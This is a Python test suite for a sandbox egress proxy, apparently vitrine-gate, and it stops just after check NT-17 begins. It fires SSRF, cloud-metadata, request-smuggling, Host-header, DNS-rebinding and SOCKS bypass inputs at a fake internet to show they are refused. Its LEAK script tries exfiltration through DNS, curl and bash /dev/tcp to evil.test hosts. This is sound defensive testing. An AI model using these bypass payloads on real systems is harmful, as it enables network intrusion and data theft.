# SPDX-License-Identifier: Apache-2.0
"""PX - the gate: only what the rules allow gets out, however it is asked for.

Each check has a fake internet of its own (tests/internet.py). The oracle is the far side's log: what arrived there, and
which names its name server was asked for. The control shows that the same request, made without a sandbox, arrives."""

import json
import os
import re
import signal
import socket
import ssl
import struct
import sys
import time
from contextlib import contextmanager, suppress
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from harness import DIRECT, HELD, check, has_step, needs_step  # noqa: E402
from internet import Internet  # noqa: E402
from outside import Trap  # noqa: E402

ALLOW = ["--allow", "ok.test"]
RUN = ("run",)

# Sends what it is told to the gate and prints what comes back, as JSON. "ask" is a list of [port, hex bytes] or
# [port, hex, hex...] for bytes in pieces; a connection is made for each.
CLIENT = r"""
import json, socket, sys, time
for target, *pieces in json.loads(sys.argv[1]):
    host, port = target
    got = b""
    try:
        s = socket.create_connection((host, port), 4)
        s.settimeout(3)
        for i, piece in enumerate(pieces):
            if i:
                time.sleep(0.15)
                try:
                    s.settimeout(0.3); got += s.recv(65536); s.settimeout(3)
                except OSError:
                    s.settimeout(3)
            s.sendall(bytes.fromhex(piece))
        while len(got) < 4000:
            more = s.recv(65536)
            if not more:
                break
            got += more
    except OSError as e:
        got += b"[" + type(e).__name__.encode() + b"]"
    print(json.dumps(got.decode("latin-1")))
"""

PROXY = ("127.0.0.1", 3128)


@contextmanager
def internet(c):
    net = Internet()
    try:
        yield net
    finally:
        net.close()


def raw(text):
    return (text if isinstance(text, bytes) else text.encode("latin-1")).hex()


def talk(c, asks, flags=ALLOW, **kw):
    """Each of asks ((host, port), bytes, bytes...) inside; the answers."""
    c.plant(c.ws / "client.py", CLIENT)
    words = json.dumps([[list(t), *[raw(p) for p in pieces]] for t, *pieces in asks])
    r = c.sandbox(["/usr/bin/python3", "client.py", words], flags=flags, timeout=15 + 4 * len(asks), **kw)
    answers = [json.loads(line) for line in r.text.splitlines()]
    if len(answers) != len(asks):
        c.inconclusive(f"not all was asked: {r}")
    return answers


def ways(c, asks):
    """Those that can be asked behind this engine."""
    return [a for a in asks if a[0] == PROXY or has_step(c, DIRECT)]


def get(url, host=None, extra=""):
    host = host or re.match(r"http://([^/]*)", url)[1]
    return f"GET {url} HTTP/1.1\r\nHost: {host}\r\n{extra}Connection: close\r\n\r\n"


def reaches_outside(c, net, name, port=80):
    """The control: without a sandbox the far side is reached."""
    c.control(f"curl -s -m 5 -o /dev/null http://{name}:{port}/control")
    c.need_control(net.hits(name, port), f"{name} is not reached outside either")
    net.clear()


def none_at(c, net, *names):
    for name in names:
        c.must(not net.hits(name), f"{name} was reached: {net.hits(name)[:2]}")


def served(c, net, flags=ALLOW):
    """The gate works at all: else its refusals prove nothing."""
    a = talk(c, [(PROXY, get("http://ok.test/served"))], flags)
    c.need_control(" 200 " in a[0], f"what is allowed is not served: {a}")
    net.clear()


def hello(name, split=0):
    """A real ClientHello."""
    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    out = ssl.MemoryBIO()
    s = ctx.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
    try:
        s.do_handshake()
    except ssl.SSLWantReadError:
        pass
    data = out.read()
    if not split:
        return data
    body = data[5:]
    return b"".join(b"\x16\3\1" + struct.pack(">H", len(body[i:i + split])) + body[i:i + split]
                    for i in range(0, len(body), split))


@check("PX-01", prio="P0", title="CONNECT to a host that is not listed", catches=("gate-rules",))
def px01(c):
    with internet(c) as net:
        reaches_outside(c, net, "evil.test", 443)
        served(c, net)
        a = talk(c, [(PROXY, "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")])
        c.must(" 403 " in a[0], f"not refused: {a}")
        none_at(c, net, "evil.test")
        c.must("evil.test" not in net.queries(), "the name was asked for")
    return HELD


@check("PX-02", prio="P0", title="plain HTTP to a host that is not listed", catches=("gate-rules",))
def px02(c):
    with internet(c) as net:
        reaches_outside(c, net, "evil.test")
        served(c, net)
        a = talk(c, [(PROXY, get("http://evil.test/")),
                     (PROXY, "POST http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 3\r\n\r\nabc")])
        c.must(all(" 403 " in x for x in a), f"not refused: {a}")
        none_at(c, net, "evil.test")
    return HELD


@check("PX-03", prio="P0", title="addresses that are not listed", forms=RUN, catches=("gate-rules",))
def px03(c):
    with internet(c) as net:
        reaches_outside(c, net, "evil.test")
        served(c, net)
        talk(c, [(PROXY, get("http://93.184.216.35/")), (PROXY, "CONNECT 93.184.216.35:443 HTTP/1.1\r\n\r\n"),
                 (PROXY, "CONNECT [2606:2800:220:1::35]:443 HTTP/1.1\r\n\r\n"),
                 (PROXY, get("http://[2606:2800:220:1::35]/")), (("93.184.216.35", 80), get("/", "evil.test")),
                 (("2606:2800:220:1::35", 80), get("/", "evil.test"))])
        none_at(c, net, "evil.test")
    return HELD


SPELLINGS = ["2130706433", "0x7f000001", "0177.0.0.1", "127.1", "127.0.0.1.", "0", "0.0.0.0", "127.000.000.001",
             "\xef\xbc\x91\xef\xbc\x92\xef\xbc\x97.0.0.1", "127.0.0.1%00", "[::1]", "[::ffff:127.0.0.1]", "[::]", "localhost",
             "[::ffff:7f00:1]", "[0:0:0:0:0:0:0:1]", "loop.test"]


@check("PX-04", prio="P0", title="the host's loopback in every spelling", forms=RUN, catches=("gate-addresses",))
def px04(c):
    with internet(c) as net:
        traps = [Trap(socket.AF_INET, ("127.0.0.1", 0)), Trap(socket.AF_INET6, ("::1", 0))]
        c.control(f"curl -s -m 2 http://127.0.0.1:{traps[0].port}/")
        c.need_control(traps[0].log, "the trap is deaf")
        for t in traps:
            t.clear()
        flags = ["--net", "open", "--allow", "loop.test"]
        served(c, net, flags)
        for t in traps:
            talk(c, [(PROXY, get(f"http://{h}:{t.port}/")) for h in SPELLINGS] +
                    [(PROXY, f"CONNECT {h}:{t.port} HTTP/1.1\r\n\r\n") for h in SPELLINGS], flags)
        for t in traps:
            t.close()
            c.must(not t.log, f"the host's loopback was reached: {t.log[:2]}")
    return HELD


@check("PX-05", prio="P0", title="addresses that carry others: mapped, NAT64, 6to4", forms=RUN,
       catches=("gate-addresses",))
def px05(c):
    with internet(c) as net:
        reaches_outside(c, net, "meta.test")
        flags = ["--net", "open"]
        served(c, net, flags)
        hosts = ["[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::]",
                 "[::169.254.169.254]", "[fd00:ec2::254]", "169.254.169.254", "meta.test"]
        a = talk(c, [(PROXY, get(f"http://{h}/")) for h in hosts], flags)
        c.must(all(" 403 " in x or " 400 " in x for x in a), f"not refused: {a}")
        none_at(c, net, "meta.test")
    return HELD


@check("PX-06", prio="P0", title="names end at label boundaries", forms=RUN, catches=("gate-rules",))
def px06(c):
    with internet(c) as net:
        reaches_outside(c, net, "wild.test")
        flags = ["--allow", "*.wild.test", "--allow", "ok.test"]
        served(c, net, flags)
        bad = ["evil-wild.test", "wild.test.evil.test", "xok.test", "wild.test", "ok.test.evil", "evil.test"]
        a = talk(c, [(PROXY, get(f"http://{h}/")) for h in bad], flags)
        c.must(all(" 403 " in x for x in a), f"not refused: {list(zip(bad, a))}")
        none_at(c, net, "wild.test", "evil.test")
        c.must(not net.queries(), f"names were asked for: {net.queries()}")
        a = talk(c, [(PROXY, get("http://a.wild.test/")), (PROXY, get("http://b.a.wild.test/"))], flags)
        c.need_control(all(" 200 " in x for x in a), f"names below are not served: {a}")
    return HELD


@check("PX-07", prio="P0", title="NUL and control bytes in names", forms=RUN, catches=("gate-rules",))
def px07(c):
    with internet(c) as net:
        reaches_outside(c, net, "evil.test")
        served(c, net)
        name = b"evil.test\0.ok.test"
        socks = b"\5\1\0\3" + bytes([len(name)]) + name + b"\0\x50"
        a = talk(c, [(PROXY, b"\5\1\0", socks), (PROXY, b"CONNECT evil.test\0.ok.test:443 HTTP/1.1\r\n\r\n"),
                     (PROXY, b"GET http://evil.test\0.ok.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n"),
                     (PROXY, b"CONNECT evil.test\n.ok.test:443 HTTP/1.1\r\n\r\n"),
                     (PROXY, b"\5\1\0", b"\5\1\0\3\x09evil.test\0\x50")])
        none_at(c, net, "evil.test")
        c.must(not [q for q in net.queries() if "evil" in q], f"asked for: {net.queries()}: {a}")
    return HELD


@check("PX-08", prio="P1", title="dots at the end and the beginning", forms=RUN, catches=("gate-rules",))
def px08(c):
    with internet(c) as net:
        reaches_outside(c, net, "evil.test")
        flags = ["--net", "open", "--deny", "evil.test"]
        a = talk(c, [(PROXY, get("http://ok.test./"))], flags)
        c.need_control(" 200 " in a[0], f"one dot at the end is not accepted: {a}")
        a = talk(c, [(PROXY, get(f"http://{h}/")) for h in ("evil.test.", "EVIL.test", "evil.test..", ".evil.test", "evil..test")],
                 flags)
        c.must(all(" 403 " in x or " 400 " in x for x in a), f"not refused: {a}")
        none_at(c, net, "evil.test")
    return HELD


@check("PX-09", prio="P1", title="letters beyond ASCII, percent signs, other dots", forms=RUN)
def px09(c):
    with internet(c) as net:
        reaches_outside(c, net, "evil.test")
        served(c, net)
        hosts = ["evil%2etest", "\xef\xbd\x85vil.test", "evil\xe3\x80\x82test", "ev\xc2\xadil.test", "evil.test%20", "xn--evil.test"]
        talk(c, [(PROXY, get(f"http://{h}/")) for h in hosts] + [(PROXY, f"CONNECT {h}:80 HTTP/1.1\r\n\r\n") for h in hosts])
        none_at(c, net, "evil.test")
        c.must(all(re.fullmatch(r"[a-z0-9.-]+", q) for q in net.queries()), f"asked for: {net.queries()}")
    return HELD


@check("PX-10", prio="P0", title="user names and other tricks in the URL", forms=RUN)
def px10(c):
    with internet(c) as net:
        reaches_outside(c, net, "evil.test")
        served(c, net)
        urls = ["http://ok.test@evil.test/", "http://evil.test\\@ok.test/", "http://ok.test#@evil.test/", "http://ok.test:80@evil.test/",
                "http://evil.test#ok.test/", "http://evil.test?ok.test", "http:/evil.test/", "http://evil.test:80:80/", "//evil.test/"]
        talk(c, [(PROXY, f"GET {u} HTTP/1.1\r\nHost: ok.test\r\n\r\n") for u in urls] +
                [(PROXY, f"GET {u} HTTP/1.1\r\nHost: evil.test\r\n\r\n") for u in urls] +
                [(PROXY, "CONNECT ok.test@evil.test:443 HTTP/1.1\r\n\r\n")])
        none_at(c, net, "evil.test")
    return HELD


@check("PX-11", prio="P0", title="Host and the request's host differ", forms=RUN)
def px11(c):
    with internet(c) as net:
        served(c, net)
        a = talk(c, ways(c, [(PROXY, get("http://ok.test/", "evil.test")), (PROXY, get("http://ok.test/", "ok.test:8080")),
                             (("ok.test", 80), get("/", "evil.test"))]))
        c.must(all(" 400 " in x for x in a), f"not refused: {a}")
        c.must(not net.hits(kind="http"), f"forwarded: {net.hits(kind='http')}")
    return HELD


@check("PX-12", prio="P1", title="two Hosts, folded, odd or missing ones", forms=RUN)
def px12(c):
    with internet(c) as net:
        served(c, net)
        heads = ["Host: ok.test\r\nHost: ok.test\r\n", "Host: ok.test\r\nHost: evil.test\r\n", "Host: ok.test\r\n evil.test\r\n",
                 "Host: ok.test, evil.test\r\n", "Host : ok.test\r\n", "Host: ok.test\tevil.test\r\n", "", "Host:\r\n"]
        a = talk(c, ways(c, [(PROXY, f"GET http://ok.test/ HTTP/1.1\r\n{h}\r\n") for h in heads] +
                         [(("ok.test", 80), f"GET / HTTP/1.1\r\n{h}\r\n") for h in heads]))
        c.must(all(" 400 " in x for x in a), f"not refused: {a}")
        c.must(not net.hits(kind="http"), f"forwarded: {net.hits(kind='http')}")
    return HELD


@check("PX-13", prio="P0", title="TLS asks for another name, or none, in an allowed tunnel", forms=RUN, catches=("gate-sniff",))
def px13(c):
    with internet(c) as net:
        served(c, net)
        connect = "CONNECT ok.test:443 HTTP/1.1\r\nHost: ok.test:443\r\n\r\n"
        good = talk(c, ways(c, [(PROXY, connect, hello("ok.test")), (("ok.test", 443), hello("ok.test", 40))]))
        c.need_control(len(net.hits("ok.test", 443, "bytes")) >= len(good), f"the right name is not passed on: {good}")
        net.clear()
        evil, none = hello("evil.test"), hello(None)
        talk(c, ways(c, [(PROXY, connect, evil), (PROXY, connect, evil[:60], evil[60:]), (PROXY, connect, hello("evil.test", 20)),
                         (PROXY, connect, none), (("ok.test", 443), evil), (("ok.test", 8443), none),
                         (PROXY, b"\5\1\0", b"\5\1\0\3\7ok.test\1\xbb", evil)]))
        c.must(not net.hits(kind="bytes"), f"passed on: {net.hits(kind='bytes')[:1]}")
    return HELD


@check("PX-15", prio="P0", title="another host on the same connection", forms=RUN, catches=("gate-rules",))
def px15(c):
    with internet(c) as net:
        reaches_outside(c, net, "evil.test")
        served(c, net)
        first = "GET http://ok.test/1 HTTP/1.1\r\nHost: ok.test\r\n\r\n"
        second = "GET http://evil.test/2 HTTP/1.1\r\nHost: evil.test\r\n\r\n"
        a = talk(c, ways(c, [
            (PROXY, first, second), (PROXY, first + second),
            (("ok.test", 80), "GET /1 HTTP/1.1\r\nHost: ok.test\r\n\r\n", "GET /2 HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
            (PROXY, "CONNECT ok.test:80 HTTP/1.1\r\n\r\n", "GET /1 HTTP/1.1\r\nHost: ok.test\r\n\r\n",
             "GET /2 HTTP/1.1\r\nHost: evil.test\r\n\r\n")]))
        c.need_control(all(" 200 " in x for x in a), f"the first is not served: {a}")
        none_at(c, net, "evil.test")
        seen = [h for h in net.hits(kind="http") if "evil" in h["head"] or "/2" in h["head"]]
        c.must(not seen, f"the second was forwarded: {seen}")
    return HELD


SMUGGLED = [
    "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", "Content-Length: 5\r\nContent-Length: 6\r\n", "Transfer-Encoding : chunked\r\n",
    "Content-Length: -1\r\n", "Content-Length: 99999999999999999999\r\n", "Transfer-Encoding: chunked, identity\r\n",
    "Transfer-Encoding: xchunked\r\n", "Content-Length: 5, 5\r\n", "Content-Length: +5\r\n", "X: a\nContent-Length: 5\r\n",
    "Transfer-Encoding:\x0bchunked\r\n", "Content-Length: 0x5\r\n",
]


@check("PX-16", prio="P0", title="requests that two readers would cut differently", forms=RUN)
def px16(c):
    with internet(c) as net:
        served(c, net)
        inner = "GET /smuggled HTTP/1.1\r\nHost: ok.test\r\n\r\n"
        asks = [(PROXY, f"POST http://ok.test/ HTTP/1.1\r\nHost: ok.test\r\n{h}\r\n0\r\n\r\n{inner}") for h in SMUGGLED]
        asks += [(("ok.test", 80), f"POST / HTTP/1.1\r\nHost: ok.test\r\n{h}\r\n0\r\n\r\n{inner}") for h in SMUGGLED]
        asks += [(PROXY, "POST http://ok.test/ HTTP/1.1\r\nHost: ok.test\r\nTransfer-Encoding: chunked\r\n\r\n"
                         f"{size}\r\n{inner}") for size in ("fffffffffffffffff", "5;x=y", " 5", "5\n")]
        asks += [(PROXY, f"GET http://ok.test/ HTTP/1.1\nHost: ok.test\n\n{inner}")]
        talk(c, asks)
        seen = [h for h in net.hits(kind="http") if "smuggled" in h["head"]]
        c.must(not seen, f"smuggled: {seen[:2]}")
    return HELD


@check("PX-18", prio="P0", title="a name that turns to a private address", forms=RUN, catches=("gate-addresses",))
def px18(c):
    with internet(c) as net:
        trap = Trap(socket.AF_INET, ("127.0.0.1", 80))
        reaches_outside(c, net, "private.test")
        flags = ["--net", "open"]
        served(c, net, flags)
        c.plant(c.ws / "again.sh", "for i in 1 2 3 4; do curl -s -m 4 http://rebind.test/$i; sleep 2; done\n")
        c.sandbox("sh again.sh", flags=flags, timeout=40)
        talk(c, [(PROXY, get(f"http://{h}/")) for h in ("private.test", "inner.test", "mixed.test", "loop.test", "own.test")], flags)
        trap.close()
        c.must(not trap.log, f"the host's loopback was reached: {trap.log[:2]}")
        none = [h for h in net.hits() if h["at"].startswith("10.")]
        c.must(not none, f"a private address was reached: {none}")
    return HELD


@check("PX-19", prio="P0", title="metadata services, also with everything open", forms=RUN, catches=("gate-addresses",))
def px19(c):
    with internet(c) as net:
        reaches_outside(c, net, "meta.test")
        flags = ["--net", "open"]
        served(c, net, flags)
        hosts = ["169.254.169.254", "169.254.170.2", "[fd00:ec2::254]", "100.100.100.200", "meta.test", "metadata.google.internal"]
        talk(c, [(PROXY, get(f"http://{h}/latest/meta-data/")) for h in hosts] +
                [((h.strip("[]"), 80), get("/", h)) for h in hosts[:4]], flags)
        none_at(c, net, "meta.test")
    return HELD


@check("PX-20", prio="P1", title="redirects are the client's to follow, and judged anew", forms=RUN, catches=("gate-rules",))
def px20(c):
    with internet(c) as net:
        reaches_outside(c, net, "evil.test")
        served(c, net)
        c.sandbox("curl -sL -m 5 http://ok.test/redirect/evil.test; curl -sL -m 5 http://ok.test/redirect/127.0.0.1; true", flags=ALLOW)
        c.need_control(net.hits("ok.test"), "the redirecting host was not reached")
        none_at(c, net, "evil.test")
    return HELD


@check("PX-21", prio="P0", title="one port is one port", forms=RUN, catches=("gate-rules",))
def px21(c):
    with internet(c) as net:
        reaches_outside(c, net, "ok.test", 80)
        flags = ["--allow", "ok.test:443"]
        ports = ["22", "25", "80", "8443", "0", "65536", "-1", "443abc", "+443", "", "65979", "0443", " 443"]
        a = talk(c, [(PROXY, f"CONNECT ok.test:{p} HTTP/1.1\r\n\r\n") for p in ports] +
                    [(("ok.test", p), b"\0x") for p in (22, 25, 80, 8443)], flags)
        c.must(all(" 403 " in x or " 400 " in x for x in a[:len(ports)]), f"not refused: {a}")
        none_at(c, net, "ok.test")
        a = talk(c, [(PROXY, "CONNECT ok.test:443 HTTP/1.1\r\n\r\n")], flags)
        c.need_control(" 200 " in a[0], "the allowed port is not served")
    return HELD


@check("PX-22", prio="P1", title="SOCKS: other commands, versions and shapes", forms=RUN, catches=("gate-rules",))
def px22(c):
    with internet(c) as net:
        reaches_outside(c, net, "evil.test")
        served(c, net)
        hi = b"\5\1\0"
        evil4, evil6 = socket.inet_aton("93.184.216.35"), socket.inet_pton(socket.AF_INET6, "2606:2800:220:1::35")
        talk(c, [(PROXY, hi, b"\5\1\0\1" + evil4 + b"\0\x50", b"GET / HTTP/1.0\r\n\r\n"), (PROXY, hi, b"\5\1\0\4" + evil6 + b"\0\x50"),
                 (PROXY, hi, b"\5\3\0\1" + evil4 + b"\0\x50"), (PROXY, hi, b"\5\2\0\1" + evil4 + b"\0\x50"),
                 (PROXY, b"\4\1\0\x50" + evil4 + b"\0"), (PROXY, b"\4\1\0\x50\0\0\0\1\0evil.test\0"), (PROXY, b"\6\1\0"),
                 (PROXY, hi, b"\5\1\0\3\xff" + b"a" * 255 + b"\0\x50"), (PROXY, hi, b"\5\1\0\5xxxxx"), (PROXY, b"\5\1\2")])
        none_at(c, net, "evil.test")
        served(c, net)
    return HELD


@check("PX-25", prio="P1", title="HTTP/2 preface, h2c, HTTP/0.9, TRACE, hop-by-hop fields", forms=RUN)
def px25(c):
    with internet(c) as net:
        served(c, net)
        a = talk(c, [(PROXY, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), (PROXY, "GET http://ok.test/\r\n"), (("ok.test", 80), "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
                     (PROXY, "TRACE http://ok.test/ HTTP/1.1\r\nHost: ok.test\r\n\r\n"), (PROXY, "OPTIONS * HTTP/1.1\r\nHost: ok.test\r\n\r\n")])
        c.must(not net.hits(kind="http"), f"forwarded: {net.hits(kind='http')}: {a}")
        talk(c, [(PROXY, get("http://ok.test/x", extra="X-Secret: 1\r\nProxy-Authorization: Basic eA==\r\nUpgrade: h2c\r\nHTTP2-Settings: x\r\n"
                                                       "Keep-Alive: 1\r\n").replace("Connection: close", "Connection: close, X-Secret, Host"))])
        head = net.hits(kind="http")[0]["head"] if net.hits(kind="http") else ""
        c.need_control(head, "the request did not arrive")
        c.must(not re.search(r"(?i)proxy-|x-secret|upgrade|http2-settings|keep-alive: 1", head), f"hop-by-hop fields went on: {head}")
        c.must("Host: ok.test" in head, f"Host was named away: {head}")
    return HELD


@check("PX-26", prio="P0", title="nobody else on the host reaches the gate", forms=RUN)
def px26(c):
    with internet(c) as net:
        served(c, net)
        p = c.start("sleep 3", flags=ALLOW)
        time.sleep(0.5)
        for address in ("127.0.0.1", "::1"):
            try:
                with socket.create_connection((address, 3128), 1):
                    c.breach("the proxy's port answers on the host")
            except ConnectionRefusedError:
                pass
        p.stop()
    return HELD


@check("PX-27", prio="P1", title="proxy settings of the host and of the request are not used", forms=RUN)
def px27(c):
    with internet(c) as net:
        served(c, net)
        c.sandbox("curl -s -m 5 -H 'Proxy: http://evil.test' http://ok.test/", flags=ALLOW,
                  env={"HTTP_PROXY": "http://evil.test:3128", "https_proxy": "http://evil.test:3128", "ALL_PROXY": "http://evil.test:3128"})
        c.need_control(net.hits("ok.test"), "not served")
        none_at(c, net, "evil.test")
    return HELD


BOUND = r"""
import json, socket, sys, time
patience = int(sys.argv[1])
def proxy():
    s = socket.create_connection(("127.0.0.1", 3128), 5 * patience); s.settimeout(8 * patience); return s
def first(s):
    try:
        return s.recv(64).decode("latin-1")
    except OSError as e:
        return type(e).__name__
idle = [proxy() for _ in range(400)]
slow = [proxy() for _ in range(400)]
for s in slow:
    s.sendall(b"GET http://ok.test/ HTTP/1.1\r\nHo")
out = {}
def flood(head):
    s = proxy()
    try:
        s.sendall(head)
    except OSError:
        pass
    return first(s)
out["long"] = flood(b"GET http://ok.test/ HTTP/1.1\r\nX: " + b"a" * (1 << 20))
out["many"] = flood(b"GET http://ok.test/ HTTP/1.1\r\n" + b"A: b\r\n" * 100000)
t0 = time.monotonic()
s = proxy()
s.sendall(b"GET http://ok.test/served HTTP/1.1\r\nHost: ok.test\r\nConnection: close\r\n\r\n")
out["served"] = first(s)
out["seconds"] = time.monotonic() - t0
print("loaded", flush=True)
time.sleep(17)
left = 0
for s in idle + slow:
    s.setblocking(False)
    try:
        while s.recv(4096):
            pass
    except BlockingIOError:
        left += 1
    except OSError:
        pass
out["left"] = left
print(json.dumps(out), flush=True)
"""


def gate_rss():
    """Of each process of a gate in this network, in MiB."""
    here, found = os.stat("/proc/self/ns/net").st_ino, []
    for d in Path("/proc").glob("[0-9]*"):
        try:
            if (d / "cmdline").read_bytes().startswith(b"vitrine-gate\0") and os.stat(d / "ns/net").st_ino == here:
                found.append(int(re.search(r"VmRSS:\s+(\d+)", (d / "status").read_text())[1]) / 1024)
        except OSError:
            pass
    return found


@check("PX-28", prio="P0", title="many, slow and endless clients", forms=RUN, catches=("gate-bounds",), timeout=90.0,
       alone="clients")
def px28(c):
    with internet(c) as net:
        c.plant(c.ws / "bound.py", BOUND)
        p = c.start(["/usr/bin/python3", "bound.py", str(c.cfg.patience)], flags=ALLOW)
        c.need_control(p.wait_for("loaded", 30), f"the load was not made: {p.err[-300:]}")
        rss = gate_rss()
        c.need_control(len(rss) == 2, f"not two processes of the gate: {rss}")
        r = p.wait(40)
        out = json.loads(r.text.splitlines()[-1])
        c.must("200" in out["served"] and out["seconds"] < c.cfg.patience, f"another request waits: {out}")
        c.must(max(rss) < 64, f"memory: {rss} MiB")
        c.must(" 431 " in out["long"] or " 400 " in out["long"] or "Reset" in out["long"], f"an endless head: {out}")
        c.must(" 431 " in out["many"] or " 400 " in out["many"] or "Reset" in out["many"], f"endless heads: {out}")
        c.must(out["left"] == 0, f"{out['left']} slow clients are still served after 17 s")
        c.note("rss", rss, "seconds", out["seconds"])
    return HELD


@check("PX-34", prio="P2", title="bytes are counted exactly", forms=RUN)
def px34(c):
    with internet(c) as net:
        r = c.sandbox("head -c 20000000 /dev/zero | curl -s -m 15 --data-binary @- http://ok.test/up; head -c 5000 /dev/zero |"
                      "curl -s -m 5 -x socks5h://127.0.0.1:3128 --data-binary @- http://ok.test/up", flags=ALLOW, timeout=40)
        c.need_control("/up 20000000" in r.text and "/up 5000" in r.text, f"not uploaded: {r}")
        log = c.vitrine("net", "log", "--json")
        sums = [json.loads(line)["data"] for line in log.text.splitlines() if json.loads(line)["type"] == "net.connect"]
        out = sorted(e["bytes_out"] for e in sums)
        heads = sorted(len(h["head"]) + 4 for h in net.hits(kind="http"))
        # Of a proxied request the body is counted, of a tunnel all of it.
        c.must(any(n == 20000000 for n in out) and any(5000 <= n <= 5000 + max(heads) for n in out), f"counted {out}, heads {heads}")
    return HELD


@check("PX-24", prio="P1", title="what is not TLS on a TLS port is on record", forms=RUN, catches=("gate-sniff",))
def px24(c):
    with internet(c) as net:
        talk(c, [(PROXY, "CONNECT ok.test:443 HTTP/1.1\r\n\r\n", b"SSH-2.0-x\r\n")])
        log = c.vitrine("net", "log", "--json")
        c.must("not TLS" in log.text, f"no event: {log.text[-400:]}")
    return HELD


@check("PX-29", prio="P0", title="the gate does not serve itself", forms=RUN, catches=("gate-addresses",))
def px29(c):
    with internet(c) as net:
        trap = Trap(socket.AF_INET, ("127.0.0.1", 3128))
        flags = ["--net", "open", "--allow", "loop.test"]
        served(c, net, flags)
        talk(c, [(PROXY, get("http://127.0.0.1:3128/")), (PROXY, "CONNECT 127.0.0.1:3128 HTTP/1.1\r\n\r\n"),
                 (PROXY, "CONNECT loop.test:3128 HTTP/1.1\r\n\r\n"), (PROXY, "CONNECT 198.18.0.1:3128 HTTP/1.1\r\n\r\n")], flags)
        trap.close()
        c.must(not trap.log, f"the host's port was reached: {trap.log}")
    return HELD


@check("PX-30", prio="P0", title="deny wins over the wider allow", forms=RUN, catches=("gate-rules",))
def px30(c):
    with internet(c) as net:
        reaches_outside(c, net, "bad.ok.test")
        flags = ["--allow", "*.ok.test", "--deny", "bad.ok.test", "--allow", "ok.test"]
        a = talk(c, [(PROXY, get("http://sub.ok.test/"))], flags)
        c.need_control(" 200 " in a[0], f"what is allowed is not served: {a}")
        net.clear()
        a = talk(c, [(PROXY, get(f"http://{h}/")) for h in ("bad.ok.test", "BAD.ok.test", "bad.ok.test.", "bad.ok.test:8080")], flags)
        c.must(all(" 403 " in x for x in a), f"not refused: {a}")
        c.must(not net.hits(), f"reached: {net.hits()[:2]}")
    return HELD


@check("NT-18", prio="P0", title="with a gate: UDP, DNS and everything unlisted stays in", catches=("gate-rules",))
def nt18(c):
    with internet(c) as net:
        label = c.uuid()
        c.control(f"curl -4 -s -m 3 http://{label}.evil.test/; curl -4 -s -m 3 http://evil.test/; true")
        c.need_control(any(label in q for q in net.queries()) and net.hits("evil.test"), "the control did not arrive")
        net.clear()
        c.plant(c.ws / "leak.py", LEAK)
        time.sleep(0.3)
        before = net.packets()
        c.need_control(before > 0, "no packets are counted")
        c.sandbox(["/usr/bin/python3", "leak.py", label], flags=ALLOW, timeout=40)
        time.sleep(0.1)
        c.must(not [q for q in net.queries() if label in q], f"the name left: {net.queries()}")
        c.must(not net.hits(), f"reached: {net.hits()[:2]}")
        c.must(net.packets() == before, f"{net.packets() - before} packets left")
    return HELD


LEAK = r"""
import os, socket, struct, subprocess, sys
label = sys.argv[1]
def ask(name):
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + q + b"\0\1\0\1"
for server in ("127.0.0.1", "8.8.8.8", "192.0.2.1", "93.184.216.35"):
    for port in (53, 5353, 123, 443):
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.settimeout(0.2)
        try:
            u.sendto(ask(label + ".evil.test"), (server, port)); u.recv(1000)
        except OSError:
            pass
    for port in (53, 853, 22, 80):
        try:
            t = socket.create_connection((server, port), 0.5)
            t.send(struct.pack(">H", len(ask(label))) + ask(label + ".evil.test")); t.settimeout(0.5); t.recv(100)
        except OSError:
            pass
for name in (label + ".evil.test", "evil.test"):
    try:
        socket.getaddrinfo(name, 80)
    except OSError:
        pass
env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower()}
for argv in (["curl", "-s", "-m", "3", "http://%s.evil.test/" % label], ["curl", "-s", "-m", "3", "--noproxy", "*", "http://evil.test/"],
             ["curl", "-s", "-m", "3", "http://93.184.216.35/" + label], ["bash", "-c", "echo %s >/dev/tcp/93.184.216.35/80" % label]):
    for e in (env, {**os.environ, "NO_PROXY": "*", "no_proxy": "*"}):
        subprocess.run(argv, env=e, timeout=6, capture_output=True)
"""


@check("NT-20", prio="P1", title="with a gate: every port of every address leads to it, proxy or not", forms=RUN, catches=("redirect",))
def nt20(c):
    needs_step(c, DIRECT)
    with internet(c) as net:
        script = "for u in http://ok.test:5432/a http://93.184.216.34:8080/b http://evil.test:5432/c http://93.184.216.35:5432/d; do " \
                 "curl -sS -m 4 --noproxy '*' $u; done; true"
        c.control(script)
        c.need_control(len(net.hits("evil.test", 5432)) == 2, "not reached outside either")
        net.clear()
        r = c.sandbox(script, flags=["--allow", "ok.test", "--allow", "93.184.216.34:8080"])
        none_at(c, net, "evil.test")
        c.must(len(net.hits("ok.test", 5432)) == 1 and len(net.hits("ok.test", 8080)) == 1, f"what is allowed is not reached: {r}")
        log = c.vitrine("net", "log", "--denied", "--json").text
        c.must("93.184.216.35" in log and "evil.test" in log, f"not on record: {log[-300:]}")
    return HELD


@check("NT-19", prio="P0", title="with a gate: no socket of the host inside", catches=())
def nt19(c):
    with internet(c) as net:
        served(c, net)
        r = c.sandbox("curl -s -m 5 -o /dev/null http://ok.test/; for p in /proc/[0-9]*; do ls -l $p/fd 2>/dev/null; done", flags=ALLOW)
        c.must("socket:" not in r.text, f"a socket inside: {r}")
    return HELD


@check("NT-17", prio="P0", title="without proxy variables, around them, by names of one's own: refused all the same", catches=("gate-rules",))
def nt17(c):
    with internet(c) as net:
        reaches_outside(c, net, "evil.test")
        served(c, net)
